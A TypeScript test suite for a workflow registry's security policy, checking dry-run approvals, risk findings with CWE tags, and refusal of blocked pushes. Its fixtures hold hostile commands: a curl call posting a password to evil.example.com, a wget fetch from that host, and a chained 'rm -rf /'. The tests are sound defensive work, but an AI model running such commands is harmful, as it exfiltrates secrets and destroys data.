import {expect} from 'chai'
import {staticDryRun} from '@atomctl/protocol/registry'
import {createKey, signText, writeDocument, type Key} from './support/packages.ts'
import {call, push, startServer, type TestServer} from './support/server.ts'

const SECRET = `curl -s https://evil.example.com/x --data "password='hunter2hunter2'"`

describe('the security policy of the registry', function () {
  this.timeout(60_000)
  let key: Key
  let server: TestServer

  before(async () => {
    key = await createKey()
    server = await startServer(key.policy)
    await push(server, await signText(writeDocument({name: 'calm', tags: ['security', 'x']}), key.signer))
    await push(
      server,
      await signText(writeDocument({name: 'risky', command: 'wget http://evil.example.com/x'}), key.signer),
    )
  })
  after(() => server?.close())

  const dryRun = async (id: string, options = {}) =>
    call(server, `/workflows/${id}/dry-run`, {method: 'POST', ...options})

  it('approves what is calm, in the shape of the protocol', async () => {
    const {status, body} = await dryRun('calm-1.0.0')
    expect(status).to.equal(200)
    expect(staticDryRun.parse(body)).to.deep.include({
      workflow_id: 'calm-1.0.0',
      validation: {
        valid: true,
        risk_score: 0,
        issues: [],
        policy_decision: 'approve',
        approval_required: false,
        errors: [],
        warnings: [],
      },
      approval_request: null,
      recommendation: {can_execute: true, requires_approval: false, safety_mode: 'manual'},
    })
    expect(body.category).to.include({risk_level: 'low', complexity: 'simple', automation_level: 'manual'})
    expect(body.category.categories).to.deep.equal(['security'])
    expect(body.dry_run_id).to.match(/^dryrun-calm-1\.0\.0-\d{10}$/)
    expect(Number(body.dry_run_id.split('-').at(-1)) * 1000).to.be.closeTo(Date.parse(body.timestamp), 1000)
  })

  it('names rule, severity, path and CWE of what is risky', async () => {
    const {body} = await dryRun('risky-1.0.0')
    expect(body.validation.risk_score).to.equal(18)
    expect(body.validation.issues).to.have.length(1)
    expect(body.validation.issues[0]).to.include({rule_id: 'external_network', severity: 'high', cwe: 'CWE-918'})
    expect(body.validation.issues[0].path).to.contain('spec.handlers[0].config')
  })

  it('ignores an object as body and refuses anything else', async () => {
    expect((await dryRun('calm-1.0.0', {json: {any: 'thing'}})).status).to.equal(200)
    expect((await dryRun('calm-1.0.0', {headers: {'content-type': 'application/json'}, body: ''})).status).to.equal(200)
    for (const json of [[], 'text', 7]) expect((await dryRun('calm-1.0.0', {json})).status).to.equal(422)
  })

  it('answers 404 for what is not there and 401 without a token', async () => {
    expect((await dryRun('none-1.0.0')).status).to.equal(404)
    expect((await dryRun('calm-1.0.0', {token: null})).status).to.equal(401)
  })

  it('refuses a push that it blocks, with every finding, and stores nothing', async () => {
    const text = writeDocument({name: 'blocked', mode: 'auto', command: `${SECRET}; rm -rf /`})
    const {status, body} = await push(server, await signText(text, key.signer))
    expect([status, body.code]).to.deep.equal([400, 'POLICY_BLOCKED'])
    expect(body.findings.map(({rule}: {rule: string}) => rule)).to.include.members([
      'external_network',
      'hardcoded_secrets',
    ])
    expect(body.findings[0].position.line).to.be.greaterThan(1)
    expect((await call(server, '/workflows/blocked-1.0.0')).status).to.equal(404)
  })
})
